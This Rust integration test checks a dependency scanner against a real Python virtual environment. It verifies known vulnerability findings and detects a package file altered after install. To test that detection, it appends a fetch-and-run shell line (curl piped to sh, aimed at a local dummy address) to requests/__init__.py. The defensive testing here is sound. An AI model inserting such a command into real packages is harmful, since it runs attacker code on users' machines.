//! A real virtual environment with real packages from PyPI (wheels kept in
//! fixtures/wheels, installed offline), scanned from disk.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

mod common;

use std::path::Path;
use std::process::Command;

use common::{custody_run, finding_ids, fixture, imported_home, json};

/// How many of pip and setuptools `python3 -m venv` installed in
/// `site_packages` (besides the seven distributions from fixtures/wheels:
/// requests, urllib3, idna, chardet, certifi, jinja2, markupsafe).
fn installed_by_venv(site_packages: &Path) -> u64 {
    let names = std::fs::read_dir(site_packages)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned());
    let n = names
        .filter(|n| {
            n.ends_with(".dist-info") && (n.starts_with("pip-") || n.starts_with("setuptools-"))
        })
        .count();
    assert!(n >= 1, "the venv has pip");
    u64::try_from(n).unwrap()
}

#[test]
fn scan_a_real_virtual_environment() {
    let dir = tempfile::tempdir().unwrap();
    let venv = dir.path().join("venv");
    let ok = Command::new("python3")
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(ok.success(), "python3 -m venv");
    let ok = Command::new(venv.join("bin/pip"))
        .args([
            "install",
            "--quiet",
            "--no-index",
            "--disable-pip-version-check",
            "--find-links",
        ])
        .arg(fixture("wheels"))
        .args(["requests==2.19.1", "jinja2==2.10"])
        .env_remove("PIP_FIND_LINKS")
        .status()
        .unwrap();
    assert!(ok.success(), "offline pip install from fixtures/wheels");

    let home = imported_home();
    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "-f", "json"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    let j = json(&r);
    let installed: Vec<(String, String)> = j["sources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["kind"].as_str().unwrap().to_owned(),
                s["path"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(installed.len(), 1, "one site-packages: {installed:?}");
    assert!(installed[0].1.ends_with("site-packages"));
    let ids = finding_ids(&j);
    for (p, v, id) in [
        ("requests", "2.19.1", "PYSEC-2018-28"),
        ("urllib3", "1.23", "PYSEC-2019-132"),
        ("idna", "2.7", "PYSEC-2024-60"),
        ("jinja2", "2.10", "PYSEC-2019-217"),
        ("certifi", "2018.8.24", "PYSEC-2022-42986"),
    ] {
        assert!(
            ids.contains(&(p.into(), v.into(), id.into())),
            "missing {p} {v} {id}: {ids:?}"
        );
    }
    // Every distribution is checked: 7 from fixtures/wheels, pip and (up to
    // Python 3.11) setuptools: 9 with Python 3.11.
    let from_venv = installed_by_venv(Path::new(&installed[0].1));
    assert_eq!(
        j["summary"]["checked"].as_u64().unwrap(),
        7 + from_venv,
        "{}",
        j["summary"]
    );
    let pip = j["findings"]
        .as_array()
        .unwrap()
        .iter()
        .chain(j["ignored"].as_array().unwrap())
        .count();
    assert!(pip > 0);
    assert!(j["unchecked"].as_array().unwrap().is_empty());
    // What is installed is what the wheels held: inspection finds nothing.
    let inspected = &j["inspection"][0];
    assert_eq!(inspected["verdict"], "clean", "{inspected:#}");
    assert_eq!(inspected["environment"]["cached"], 0, "{inspected:#}");

    // Warm: every distribution from the cache, same verdict.
    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "-f", "json"]);
    let env = &json(&r)["inspection"][0];
    assert_eq!(env["verdict"], "clean", "{env:#}");
    assert_eq!(
        env["environment"]["cached"],
        env["environment"]["distributions"]
    );

    // A file changed after install, RECORD untouched: the warm scan reads
    // that distribution again and reports it, naming the file.
    let site = installed[0].1.clone();
    let init = std::path::Path::new(&site).join("requests/__init__.py");
    let mut text = std::fs::read_to_string(&init).unwrap();
    text.push_str("\nimport os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n");
    std::fs::write(&init, text).unwrap();
    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "-f", "json"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    let env = &json(&r)["inspection"][0];
    assert_eq!(env["verdict"], "malicious", "{env:#}");
    let cached = env["environment"]["cached"].as_u64().unwrap();
    let all = env["environment"]["distributions"].as_u64().unwrap();
    assert_eq!(cached + 1, all, "{env:#}");
    assert!(
        env["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w.as_str().unwrap().contains("requests/__init__.py")),
        "{env:#}"
    );
    // The table names the file too.
    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "--no-cache"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stdout.contains("requests/__init__.py"), "{}", r.stdout);
}
